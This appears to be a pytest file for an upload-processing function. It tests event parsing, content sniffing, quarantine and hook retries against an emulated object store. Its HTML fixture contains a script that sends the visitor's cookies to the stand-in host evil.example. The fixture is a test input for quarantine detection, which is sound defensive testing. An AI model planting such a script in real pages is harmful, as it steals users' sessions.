"""The process function (OSS trigger) with FC3 OSS events built as FC delivers them, the real emulator
(HeadObject, ranged GET, CopyObject, DeleteObject, PutObjectAcl), real SQLite files and real processes."""

import io
import json
import multiprocessing
import os
import random
import time
import types

import pytest
import requests
from fixtures import emulated_env
from PIL import Image

from ossdirect.core.events import (HookBusy, HookFailed, ProcessConfigError, content_verdict, load_process_settings,
                              parse_oss_event)
from ossdirect.app.handlers import CallbackApp, ProcessApp
from ossdirect.store.sqlite import SqliteStore


# -- sample files -------------------------------------------------------------------------------

def png_bytes(size=(64, 48)):
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, "PNG")
    return out.getvalue()


def jpeg_bytes(size=(64, 48)):
    out = io.BytesIO()
    Image.new("RGB", size, (30, 200, 30)).save(out, "JPEG")
    return out.getvalue()


PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
       b"trailer<</Root 1 0 R>>\n%%EOF\n")
# ISO base media: ftyp (isom) + an empty moov, as ffmpeg writes an MP4's first boxes
MP4 = (b"\x00\x00\x00\x20ftypisom\x00\x00\x02\x00isomiso2avc1mp41" + b"\x00\x00\x00\x08moov" + b"\x00" * 64)
HTML = b"<!DOCTYPE html><html><body><script>document.location='https://evil.example/'+document.cookie</script>"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\x00" * 45 + b"\x80\x00\x00\x00" + \
      b"\x0e\x1f\xba\x0e\x00\xb4\t\xcd!\xb8\x01L\xcd!This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 64


def oss_event(key, etag="", size=0, name="ObjectCreated:PostObject", bucket="photo-bucket"):
    """An FC3 OSS-trigger event, as bytes, the way the runtime hands it to handler(event, context)."""
    return json.dumps({"events": [{
        "eventName": name, "eventSource": "acs:oss", "eventTime": "2025-06-01T06:45:43.000Z",
        "eventVersion": "1.0",
        "oss": {"bucket": {"arn": f"acs:oss:cn-hangzhou:1234567890:{bucket}", "name": bucket,
                           "ownerIdentity": "1234567890"},
                "object": {"deltaSize": size, "eTag": etag, "key": key, "size": size},
                "ossSchemaVersion": "1.0", "ruleId": "9adac8e253828f4f7c0466d941fa3db81161e853"},
        "region": "cn-hangzhou", "requestParameters": {"sourceIPAddress": "140.205.1.1"},
        "responseElements": {"requestId": "58F9FF2D3DF792092E12044C"},
        "userIdentity": {"principalId": "1234567890"}}]}).encode()


# -- fixtures -----------------------------------------------------------------------------------

@pytest.fixture
def env(tmp_path, photo_bucket, key_server):
    return emulated_env(photo_bucket, tmp_path / "records.sqlite3", key_server, PREFIX="uploads/",
                        PUBLIC_BASE_URL="https://files.example.com", TEST_HOOK_LOG=str(tmp_path / "hook.log"))


def store_of(env):
    return SqliteStore(env["OSSDIRECT_RECORDS"][len("sqlite:///"):])


def deliver(app, photo_bucket, key, name="ObjectCreated:PostObject"):
    info = photo_bucket.sdk.head_object(key)
    return app(oss_event(key, info.etag, info.content_length, name), photo_bucket.context)


def exists(photo_bucket, key):
    import oss2

    try:
        photo_bucket.sdk.head_object(key)
        return True
    except oss2.exceptions.NotFound:
        return False


def hook_calls(env):
    try:
        with open(env["OSSDIRECT_TEST_HOOK_LOG"]) as f:
            return [line.split()[0] for line in f]
    except FileNotFoundError:
        return []


# hooks (OSSDIRECT_ON_UPLOAD=test_events:<name>): they log each call to a file, across processes
def _log_call(record, tag="ok"):
    fd = os.open(os.environ.get("OSSDIRECT_TEST_HOOK_LOG") or _HOOK_LOG[0], os.O_WRONLY | os.O_APPEND | os.O_CREAT)
    os.write(fd, f"{record['upload_id']} {tag}\n".encode())
    os.close(fd)


_HOOK_LOG = [None]


def counting_hook(record, obj):
    assert obj.read(0, 4) in (b"\x89PNG", b"hell", b"%PDF")
    time.sleep(0.05)  # long enough for concurrent deliveries to overlap
    _log_call(record)


def failing_hook(record, obj):
    _log_call(record, "fail")
    raise RuntimeError("thumbnail service unavailable")


def flaky_hook(record, obj):
    _log_call(record, "try")
    if len(hook_calls({"OSSDIRECT_TEST_HOOK_LOG": os.environ.get("OSSDIRECT_TEST_HOOK_LOG") or _HOOK_LOG[0]})) < 2:
        raise RuntimeError("first try fails")


@pytest.fixture(autouse=True)
def _hook_log(env, monkeypatch):
    monkeypatch.setenv("OSSDIRECT_TEST_HOOK_LOG", env["OSSDIRECT_TEST_HOOK_LOG"])
    _HOOK_LOG[0] = env["OSSDIRECT_TEST_HOOK_LOG"]


# -- event parsing and settings -----------------------------------------------------------------

def test_events_parsed_as_fc_delivers_them():
    body = json.loads(oss_event("uploads/a b.png", "ABC", 5))
    body["events"].append(dict(body["events"][0], eventName="ObjectCreated:InitiateMultipartUpload"))
    body["events"].append(dict(body["events"][0], eventName="ObjectRemoved:DeleteObject"))
    body["events"].append(dict(body["events"][0], eventName="ObjectCreated:CompleteMultipartUpload"))
    got = parse_oss_event(json.dumps(body).encode())
    assert got == [("ObjectCreated:PostObject", "photo-bucket", "uploads/a b.png", "ABC", 5),
                   ("ObjectCreated:CompleteMultipartUpload", "photo-bucket", "uploads/a b.png", "ABC", 5)]
    with pytest.raises(ValueError):
        parse_oss_event(b'{"not": "an oss event"}')


def test_process_settings_are_validated():
    s = load_process_settings({}, "uploads/")
    assert (s.quarantine, s.quarantine_prefix, s.on_upload, s.hook_max_attempts) == ("move", "quarantine/", None, 3)
    for bad, name in [({"OSSDIRECT_QUARANTINE": "delete"}, "QUARANTINE"),
                      ({"OSSDIRECT_QUARANTINE_PREFIX": "uploads/q/"}, "QUARANTINE_PREFIX"),
                      ({"OSSDIRECT_QUARANTINE_PREFIX": "q"}, "QUARANTINE_PREFIX"),
                      ({"OSSDIRECT_HOOK_MAX_ATTEMPTS": "0"}, "HOOK_MAX_ATTEMPTS"),
                      ({"OSSDIRECT_ON_UPLOAD": "nomodule"}, "ON_UPLOAD"),
                      ({"OSSDIRECT_ON_UPLOAD": "no_such_module_x:f"}, "ON_UPLOAD")]:
        with pytest.raises(ProcessConfigError, match=name):
            load_process_settings(bad, "uploads/")


def test_bad_configuration_raises_so_events_are_retried_not_lost(env):
    app = ProcessApp(dict(env, OSSDIRECT_QUARANTINE="sometimes"))
    with pytest.raises(RuntimeError, match="OSSDIRECT_QUARANTINE"):
        app(oss_event("uploads/x.png"), None)


# -- content rules ------------------------------------------------------------------------------

@pytest.mark.parametrize("declared,data,ok", [
    ("image/png", png_bytes(), True), ("image/jpeg", jpeg_bytes(), True), ("image/jpg", jpeg_bytes(), True),
    ("application/pdf", PDF, True), ("video/mp4", MP4, True), ("video/quicktime", MP4, True),
    ("text/plain", "héllo, wörld\n".encode() * 10, True),
    ("image/png", HTML, False), ("image/png", b"just some text", False), ("image/png", jpeg_bytes(), False),
    ("application/pdf", EXE, False), ("text/plain", HTML, False), ("text/plain", b"a\x00b", False),
    ("text/plain", png_bytes(), False), ("audio/aac", b"\xff\xf1\x50\x80\x00\x1f\xfc" + b"\x00" * 40, True),
    ("audio/aac", EXE, False),
])
def test_content_verdict(declared, data, ok):
    assert content_verdict(declared, data)[0] is ok, content_verdict(declared, data)


# -- the proofs ---------------------------------------------------------------------------------

def test_callback_down_203_then_the_event_records_with_oss_size_and_etag(tmp_path):
    from devstack import LocalStack

    data = png_bytes((40, 30))
    with LocalStack(tmp_path) as s:
        s.stop_callback()
        form = requests.get(s.signature_url, params={"filename": "pic.png", "size": len(data),
                                                     "content_type": "image/png"},
                            headers={"Origin": s.page_origin}, timeout=10).json()
        r = requests.post(form["host"], data=form["field_list"], files={"file": ("pic.png", data, "image/png")},
                          timeout=15)
        assert r.status_code == 203 and "<Code>CallbackFailed</Code>" in r.text
        assert s.records() == []  # stored, and (until now) recorded nowhere
        app = ProcessApp(s._env(OSSDIRECT_RECORDS=f"sqlite:///{s.records_path}", OSSDIRECT_OSS_ENDPOINT=s.bucket_url,
                                OSSDIRECT_QUARANTINE="private"))
        ctx = types.SimpleNamespace(credentials=s.credentials)
        # the event's own size/etag are deliberately wrong: what is recorded comes from HeadObject
        result = app(oss_event(form["key"], "0" * 32, 1, bucket="ossdirect-local"), ctx)
        assert result["results"][0]["action"] == "created"
        (record,) = s.records()
        import hashlib

        assert record["upload_id"] == dict(form["field_list"])["x:upload_id"] and record["key"] == form["key"]
        assert record["size"] == len(data) and record["etag"] == hashlib.md5(data).hexdigest().upper()
        assert (record["source"], record["status"], record["content_type_detected"]) == ("event", "recorded",
                                                                                         "image/png")
        assert record["filename"] == "pic.png"
        # a redelivery changes nothing
        assert app(oss_event(form["key"], "", 0, bucket="ossdirect-local"), ctx)["results"][0]["action"] == "existing"
        assert len(s.records()) == 1


def _worker(env, jobs, creds, barrier, out):
    os.environ["OSSDIRECT_TEST_HOOK_LOG"] = env["OSSDIRECT_TEST_HOOK_LOG"]
    ctx = types.SimpleNamespace(credentials=types.SimpleNamespace(**creds))
    callback, process = CallbackApp(env), ProcessApp(env)
    barrier.wait()
    done = []
    for kind, event in jobs:
        if kind == "callback":
            r = callback(event, ctx)
            done.append(("callback", r["statusCode"]))
            continue
        for attempt in range(40):  # the platform's redelivery of a failed invocation
            try:
                process(event, ctx)
                done.append(("event", attempt))
                break
            except HookBusy:
                time.sleep(0.05)
    out.put(done)


def test_five_concurrent_deliveries_and_the_callback_give_one_record_and_one_hook_call(
        env, photo_bucket, rsa_signer, key_server, tmp_path):
    from test_callback_handler import body_for, signed_event

    env = dict(env, OSSDIRECT_ON_UPLOAD="test_events:counting_hook")
    jobs = []
    for i in range(6):
        key = f"uploads/c{i}.png"
        photo_bucket.put(key, png_bytes((10 + i, 10)), upload_id=f"c{i}", filename=f"c{i}.png")
        info = photo_bucket.sdk.head_object(key)
        jobs += [("event", oss_event(key, info.etag, info.content_length))] * 5
        jobs.append(("callback", signed_event(rsa_signer, key_server, body_for(upload_id=f"c{i}", key=key))))
    random.Random(7).shuffle(jobs)  # out of order: the callback sometimes first, sometimes last
    ctx = multiprocessing.get_context("spawn")
    barrier, out = ctx.Barrier(4), ctx.Queue()
    creds = {"access_key_id": photo_bucket.AK, "access_key_secret": photo_bucket.SK,
             "security_token": photo_bucket.TOKEN}
    procs = [ctx.Process(target=_worker, args=(env, jobs[n::4], creds, barrier, out)) for n in range(4)]
    for p in procs:
        p.start()
    done = [x for _ in procs for x in out.get(timeout=120)]
    for p in procs:
        p.join(30)
        assert p.exitcode == 0
    assert len(done) == 36 and all(status == 200 for kind, status in done if kind == "callback")
    records = store_of(env).all()
    assert sorted(r["upload_id"] for r in records) == [f"c{i}" for i in range(6)]
    assert {r["source"] for r in records} <= {"callback", "event"}
    assert all(r["hook_status"] == "done" and r["hook_attempts"] == "1" for r in records)
    assert sorted(hook_calls(env)) == [f"c{i}" for i in range(6)]  # exactly once each


def test_html_declared_png_is_moved_to_quarantine(env, photo_bucket):
    photo_bucket.put("uploads/evil.png", HTML, upload_id="evil", content_type="image/png")
    app = ProcessApp(env)
    deliver(app, photo_bucket, "uploads/evil.png")
    record = store_of(env).get("evil")
    assert record["status"] == "quarantined" and record["quarantined_to"] == "quarantine/uploads/evil.png"
    assert "declared image/png, content is text/html" in record["status_reason"]
    assert record["content_type_detected"] == "text/html"
    assert not exists(photo_bucket, "uploads/evil.png")  # out of the public prefix
    assert requests.get(f"{photo_bucket.bucket_url}/quarantine/uploads/evil.png", timeout=5).status_code == 403
    assert photo_bucket.sdk.get_object("quarantine/uploads/evil.png").read() == HTML  # kept, privately
    # a redelivery (the object is gone now) changes nothing
    assert app(oss_event("uploads/evil.png"), photo_bucket.context)["results"][0]["action"] == "gone"
    assert store_of(env).get("evil")["status"] == "quarantined"


def test_foreign_object_is_recorded_and_quarantined(env, photo_bucket):
    photo_bucket.put("uploads/other-tool.pdf", PDF, content_type="application/pdf")  # no upload id metadata
    deliver(ProcessApp(dict(env, OSSDIRECT_QUARANTINE="private")), photo_bucket, "uploads/other-tool.pdf")
    (record,) = store_of(env).all()
    assert record["upload_id"].startswith("foreign:") and record["status"] == "quarantined"
    assert record["status_reason"].startswith("no upload id metadata") and "made private" in record["status_reason"]
    assert requests.get(f"{photo_bucket.bucket_url}/uploads/other-tool.pdf", timeout=5).status_code == 403


def test_foreign_object_with_quarantine_off_is_recorded_as_foreign(env, photo_bucket):
    photo_bucket.put("uploads/other.png", png_bytes(), content_type="image/png")
    deliver(ProcessApp(dict(env, OSSDIRECT_QUARANTINE="off")), photo_bucket, "uploads/other.png")
    (record,) = store_of(env).all()
    assert (record["status"], record["content_type_detected"]) == ("foreign", "image/png")
    assert requests.get(f"{photo_bucket.bucket_url}/uploads/other.png", timeout=5).status_code == 200


def test_private_mode_keeps_the_key_but_makes_it_private(env, photo_bucket):
    photo_bucket.put("uploads/x.pdf", EXE, upload_id="x", content_type="application/pdf")
    deliver(ProcessApp(dict(env, OSSDIRECT_QUARANTINE="private")), photo_bucket, "uploads/x.pdf")
    record = store_of(env).get("x")
    assert record["status"] == "quarantined" and "made private" in record["status_reason"]
    assert requests.get(f"{photo_bucket.bucket_url}/uploads/x.pdf", timeout=5).status_code == 403


@pytest.mark.parametrize("name,data,ctype", [("a.png", png_bytes(), "image/png"), ("b.jpg", jpeg_bytes(), "image/jpeg"),
                                             ("c.pdf", PDF, "application/pdf"), ("d.mp4", MP4, "video/mp4")])
def test_genuine_files_are_kept(env, photo_bucket, name, data, ctype):
    photo_bucket.put(f"uploads/{name}", data, upload_id=name, content_type=ctype)
    deliver(ProcessApp(env), photo_bucket, f"uploads/{name}")
    record = store_of(env).get(name)
    assert (record["status"], record["content_type_detected"], record["source"]) == ("recorded", ctype, "event")
    assert requests.get(f"{photo_bucket.bucket_url}/uploads/{name}", timeout=5).content == data


def test_hook_once_across_callback_event_and_replays(env, photo_bucket, rsa_signer, key_server):
    from test_callback_handler import body_for, signed_event

    photo_bucket.put("uploads/h.png", png_bytes(), upload_id="h", filename="h.png")
    env = dict(env, OSSDIRECT_ON_UPLOAD="test_events:counting_hook")
    cb = signed_event(rsa_signer, key_server, body_for(upload_id="h", key="uploads/h.png"))
    assert CallbackApp(env)(cb, photo_bucket.context)["statusCode"] == 200
    assert hook_calls(env) == []  # never on the callback path
    for _ in range(3):  # event + two replays, each a fresh instance
        deliver(ProcessApp(env), photo_bucket, "uploads/h.png")
    assert CallbackApp(env)(cb, photo_bucket.context)["statusCode"] == 200  # a replayed callback
    assert hook_calls(env) == ["h"]
    record = store_of(env).get("h")
    assert (record["source"], record["hook_status"], record["hook_attempts"]) == ("callback", "done", "1")


def test_failing_hook_is_retried_then_recorded_as_failed(env, photo_bucket):
    photo_bucket.put("uploads/f.png", png_bytes(), upload_id="f")
    app = ProcessApp(dict(env, OSSDIRECT_ON_UPLOAD="test_events:failing_hook", OSSDIRECT_HOOK_MAX_ATTEMPTS="3"))
    for attempt in (1, 2):
        with pytest.raises(HookFailed):  # raised: Function Compute redelivers the event
            deliver(app, photo_bucket, "uploads/f.png")
        assert store_of(env).get("f")["hook_status"] == "retry"
    result = deliver(app, photo_bucket, "uploads/f.png")  # the last attempt fails: recorded, not raised
    assert result["results"][0]["hook_status"] == "failed"
    deliver(app, photo_bucket, "uploads/f.png")  # later deliveries do not run it again
    record = store_of(env).get("f")
    assert (record["hook_status"], record["hook_attempts"]) == ("failed", "3")
    assert record["hook_error"] == "RuntimeError: thumbnail service unavailable"
    assert record["status"] == "recorded"  # the upload itself stays recorded
    assert hook_calls(env) == ["f", "f", "f"]


def test_flaky_hook_succeeds_on_retry(env, photo_bucket):
    photo_bucket.put("uploads/r.png", png_bytes(), upload_id="r")
    app = ProcessApp(dict(env, OSSDIRECT_ON_UPLOAD="test_events:flaky_hook"))
    with pytest.raises(HookFailed):
        deliver(app, photo_bucket, "uploads/r.png")
    deliver(app, photo_bucket, "uploads/r.png")
    record = store_of(env).get("r")
    assert (record["hook_status"], record["hook_attempts"], record["hook_error"]) == ("done", "2", None)


def test_hook_not_run_for_quarantined_uploads(env, photo_bucket):
    photo_bucket.put("uploads/q.png", HTML, upload_id="q")
    deliver(ProcessApp(dict(env, OSSDIRECT_ON_UPLOAD="test_events:counting_hook")), photo_bucket, "uploads/q.png")
    assert hook_calls(env) == [] and store_of(env).get("q")["hook_status"] is None


def test_example_thumbnail_hook(env, photo_bucket, monkeypatch):
    import sys
    from pathlib import Path

    monkeypatch.syspath_prepend(str(Path(__file__).resolve().parent.parent / "examples"))
    sys.modules.pop("thumbnail_hook", None)
    photo_bucket.put("uploads/big.png", png_bytes((800, 600)), upload_id="big", filename="big.png")
    app = ProcessApp(dict(env, OSSDIRECT_ON_UPLOAD="thumbnail_hook:on_upload"))
    deliver(app, photo_bucket, "uploads/big.png")
    record = store_of(env).get("big")
    assert (record["hook_status"], record["image_width"], record["image_height"], record["image_format"]) == \
        ("done", 800, 600, "png")
    thumb = photo_bucket.sdk.get_object("uploads/big.png.thumb.jpg").read()
    with Image.open(io.BytesIO(thumb)) as image:
        assert image.format == "JPEG" and image.size == (256, 192)
    # the thumbnail's own event: recorded as derived, checked, not quarantined, no second hook run
    deliver(app, photo_bucket, "uploads/big.png.thumb.jpg", "ObjectCreated:PutObject")
    derived = [r for r in store_of(env).all() if r["key"] == "uploads/big.png.thumb.jpg"]
    assert len(derived) == 1 and derived[0]["status"] == "derived"
    assert derived[0]["content_type_detected"] == "image/jpeg" and derived[0]["hook_status"] is None
    assert exists(photo_bucket, "uploads/big.png.thumb.jpg")


def test_objects_outside_the_prefix_and_other_buckets_are_skipped(env, photo_bucket):
    photo_bucket.put("site/index.png", png_bytes(), upload_id="s")
    app = ProcessApp(env)
    assert deliver(app, photo_bucket, "site/index.png")["results"][0]["action"] == "skipped"
    assert app(oss_event("uploads/a.png", bucket="other-bucket"), photo_bucket.context)["results"][0]["action"] == \
        "skipped"
    assert store_of(env).all() == []
